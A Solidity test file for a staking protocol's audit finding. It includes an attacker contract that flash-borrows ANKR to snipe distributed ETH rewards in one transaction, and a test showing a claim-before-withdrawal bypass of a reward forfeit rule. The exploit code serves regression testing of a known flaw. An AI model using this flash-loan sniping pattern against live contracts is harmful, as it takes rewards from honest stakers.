// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IParameters} from "../../src/interfaces/IParameters.sol";
import {INodeRegistry} from "../../src/interfaces/INodeRegistry.sol";
import {Governance, IDelegatedVotes} from "../../src/Governance.sol";
import {RewardPool} from "../../src/RewardPool.sol";
import {StakerRewards} from "../../src/StakerRewards.sol";
import {NodeRegistry} from "../../src/NodeRegistry.sol";
import {Protocol} from "../utils/Protocol.sol";
import {FlashLender, IFlashBorrower} from "../utils/FlashLender.sol";

/// An attacker's contract: one transaction that stakes borrowed ANKR for both staker categories, calls the
/// permissionless `distribute()`, claims, unstakes and repays.
contract RewardSniper is IFlashBorrower {
    RewardPool internal immutable pool;
    StakerRewards internal immutable stakerRewards;
    NodeRegistry internal immutable nodes;
    IERC20 internal immutable ankr;
    FlashLender internal immutable lender;
    uint256 internal immutable nodeId;
    address internal immutable attacker;

    constructor(
        RewardPool pool_,
        StakerRewards stakerRewards_,
        NodeRegistry nodes_,
        IERC20 ankr_,
        FlashLender lender_,
        uint256 nodeId_
    ) {
        pool = pool_;
        stakerRewards = stakerRewards_;
        nodes = nodes_;
        ankr = ankr_;
        lender = lender_;
        nodeId = nodeId_;
        attacker = msg.sender;
        ankr_.approve(address(stakerRewards_), type(uint256).max);
        ankr_.approve(address(nodes_), type(uint256).max);
    }

    function snipe(uint256 amount) external {
        require(msg.sender == attacker, "not attacker");
        lender.flashLoan(amount);
        (bool ok,) = attacker.call{value: address(this).balance}("");
        require(ok, "payout");
    }

    function onFlashLoan(uint256 amount) external {
        require(msg.sender == address(lender), "not lender");
        uint256 half = amount / 2;
        stakerRewards.stake(half);
        nodes.stakeOnSidecar(nodeId, half);
        pool.distribute();
        stakerRewards.claimRewards();
        nodes.claimRewards(nodeId); // claimed first: the early withdrawal below finds nothing to forfeit
        stakerRewards.unstake(half);
        nodes.unstakeFromSidecar(nodeId, half); // the node still runs
        require(ankr.transfer(address(lender), amount), "repay");
    }

    receive() external payable {}
}

/// The reward findings of issue 15 (finding 5), each performed against today's contracts. Every test
/// PASSES today by asserting the damage; once rewards stream as the issue's "Deliver" item 4 says, each
/// attack must fail and its assertions flip.
contract RewardAttacksTest is Protocol {
    Governance internal gov;
    address[] internal governors;
    address internal fund = makeAddr("development");
    address internal requester;
    address internal holderA;
    address internal holderB;
    uint256 internal nodeId;

    function setUp() public {
        deployProtocol();
        for (uint256 i = 0; i < 3; i++) {
            governors.push(makeAddr(string.concat("governor", vm.toString(i))));
            ankr.mint(governors[i], 1_000_000 ether);
        }
        gov = new Governance(
            params, ankr, IDelegatedVotes(address(nodes)), address(insurance), address(rewardPool), governors
        );
        vm.prank(governance);
        rewardPool.wire(gov, stakerRewards, nodes, fund);
        requester = staker("requester");
        holderA = staker("holderA");
        holderB = staker("holderB");
        address provider = qualifiedProvider("provider", IParameters.TrustLevel.Trusted);
        vm.prank(provider);
        nodeId = nodes.registerNode(makeAddr("sidecar"), "https://node", capacity());
        for (uint256 i = 0; i < 3; i++) {
            vm.startPrank(governors[i]);
            ankr.approve(address(gov), type(uint256).max);
            gov.acceptInvitation(100_000 ether);
            vm.stopPrank();
        }
    }

    function stakeOnSidecar(address who, uint256 amount) internal {
        vm.startPrank(who);
        ankr.approve(address(nodes), type(uint256).max);
        nodes.stakeOnSidecar(nodeId, amount);
        vm.stopPrank();
    }

    function fundPool(uint256 eth) internal {
        vm.deal(address(this), eth);
        (bool ok,) = address(rewardPool).call{value: eth}("");
        assertTrue(ok);
    }

    function claimEth(address sink, address who) internal returns (uint256 eth) {
        uint256 before = who.balance;
        vm.prank(who);
        StakerRewards(payable(sink)).claimRewards();
        return who.balance - before;
    }

    /// Finding 5 (critical): reward sniping with one block of borrowed ANKR.
    /// 1. A requester has staked 1,000 ANKR for the stakers' 40 % and holderA 1,000 ANKR on a running
    ///    sidecar for the 20 %, both for the whole week since the last distribution; 100 ETH of rewards
    ///    came in during that week.
    /// 2. When the distribution is due, ONE transaction flash-borrows 198,000 ANKR, stakes 99,000 in
    ///    StakerRewards and 99,000 on the sidecar, calls the permissionless `distribute()`, claims both
    ///    categories, unstakes both (the sidecar withdrawal forfeits nothing: it was claimed first) and repays.
    /// 3. Having held stake for zero seconds the attacker takes 39.6 of the 40 ETH and 19.8 of the 20 ETH;
    ///    the honest stakers who held all week get 0.4 and 0.2.
    /// Deliver 4: "Rewards streamed over the following reward period (rate and period end, as Synthetix's
    /// `StakingRewards`), for reward-share stakers, sidecar stakers and governors, so a stake earns only for
    /// the time it is held." The fixed contract must pay the attacker nothing (its stake held no time) and
    /// stream the 40 ETH and 20 ETH to the requester and holderA over the next period.
    function test_Attack_FlashStakeAroundDistribute_Takes39_6Of40EthAnd19_8Of20Eth() public {
        vm.startPrank(requester);
        ankr.approve(address(stakerRewards), type(uint256).max);
        stakerRewards.stake(1_000 ether);
        vm.stopPrank();
        stakeOnSidecar(holderA, 1_000 ether);
        rewardPool.distribute(); // the period starts with an empty pool
        fundPool(100 ether);
        vm.warp(block.timestamp + 7 days);

        address attacker = makeAddr("attacker");
        FlashLender lender = new FlashLender(ankr);
        ankr.mint(address(lender), 1_000_000 ether);
        vm.prank(attacker);
        RewardSniper sniper = new RewardSniper(rewardPool, stakerRewards, nodes, ankr, lender, nodeId);
        vm.prank(attacker);
        sniper.snipe(198_000 ether); // one transaction

        assertEq(attacker.balance, 39.6 ether + 19.8 ether, "59.4 ETH for a stake held zero seconds");
        assertEq(ankr.balanceOf(address(lender)), 1_000_000 ether, "the loan was repaid in the transaction");
        assertEq(stakerRewards.stakeOf(address(sniper)), 0);
        assertEq(nodes.totalStakeOf(address(sniper)), 0);
        assertEq(
            uint8(nodes.getNode(nodeId).status), uint8(INodeRegistry.Status.Active), "left a running node"
        );
        assertEq(address(rewardPool).balance, 0, "nothing forfeited back to the pool");
        assertEq(claimEth(address(stakerRewards), requester), 0.4 ether, "0.4 of 40 ETH after a whole week");
        assertEq(claimEth(address(nodes), holderA), 0.2 ether, "0.2 of 20 ETH after a whole week");
    }

    /// Finding 5, §3.1: claiming first bypasses the forfeit of rewards on an early sidecar withdrawal.
    /// 1. holderA (1,000 ANKR) and holderB (3,000 ANKR) stake on a running sidecar; 100 ETH are
    ///    distributed, so the sidecar stakers' 20 ETH earn holderA 5 and holderB 15.
    /// 2. holderA follows the rule's intent: it withdraws everything while the node runs and forfeits its
    ///    5 ETH to the reward pool.
    /// 3. holderB claims its 15 ETH first, then withdraws everything while the node runs: nothing is left
    ///    to forfeit, it keeps all 15 ETH.
    /// Deliver 4: "Sidecar rewards vest when the node completes; withdrawing from a running node forfeits
    /// the withdrawn part's rewards whether or not they were claimed (§3.1)." The fixed contract must not
    /// pay holderB's 15 ETH before the node completes, and its withdrawal must return them to the pool.
    function test_Attack_ClaimBeforeSidecarUnstake_Keeps15EthThatSection31Forfeits() public {
        stakeOnSidecar(holderA, 1_000 ether);
        stakeOnSidecar(holderB, 3_000 ether);
        fundPool(100 ether);
        rewardPool.distribute();
        uint256 poolBefore = address(rewardPool).balance;

        vm.prank(holderA);
        nodes.unstakeFromSidecar(nodeId, 1_000 ether);
        assertEq(address(rewardPool).balance - poolBefore, 5 ether, "holderA forfeited its 5 ETH");
        assertEq(claimEth(address(nodes), holderA), 0);

        assertEq(claimEth(address(nodes), holderB), 15 ether, "claimed while the node runs");
        vm.prank(holderB);
        nodes.unstakeFromSidecar(nodeId, 3_000 ether);
        assertEq(
            uint8(nodes.getNode(nodeId).status), uint8(INodeRegistry.Status.Active), "the node still runs"
        );
        assertEq(address(rewardPool).balance - poolBefore, 5 ether, "holderB forfeited nothing");
        assertEq(holderB.balance, 1_000 ether + 15 ether, "holderB keeps all 15 ETH");
        assertEq(ankr.balanceOf(holderB), 1_000_000 ether, "and all its ANKR");
    }
}
